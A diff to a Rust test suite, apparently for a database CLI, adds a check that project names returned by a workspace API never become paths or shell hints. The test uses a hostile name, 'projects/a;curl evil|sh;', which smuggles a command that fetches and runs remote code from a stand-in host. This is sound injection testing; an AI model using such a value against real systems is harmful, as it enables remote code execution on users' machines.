@@ -378,4 +378,16 @@ fn invalid_names_from_the_workspace_never_become_paths() {
     workspace.fault("/api/2.0/postgres/projects", 1, Answer::Json(200, page));
     let mut test = unnamed(&workspace);
     test.set("PGHOST", ENDPOINT_HOST).run("").fails(1, &["gives a project an invalid name"]);
+
+    // Neither the only project's path nor a hint, which a user pastes into a shell.
+    let hostile = json!({ "name": "projects/a;curl evil|sh;" });
+    let path = "/api/2.0/postgres/projects";
+    workspace.fault(path, 1, Answer::Json(200, json!({ "projects": [hostile] })));
+    test.unset("PGHOST").run("").fails(1, &["gives a project an invalid name"]);
+    let list = json!({ "projects": [hostile, { "name": "projects/shop" }] });
+    workspace.fault(path, 1, Answer::Json(200, list));
+    test.run("").fails(2, &["several projects", "hint: --endpoint projects/shop,"]);
+    let list = json!({ "projects": [hostile, hostile] });
+    workspace.fault(path, 1, Answer::Json(200, list));
+    test.run("").fails(2, &["hint: --endpoint projects/PROJECT,"]);
 }
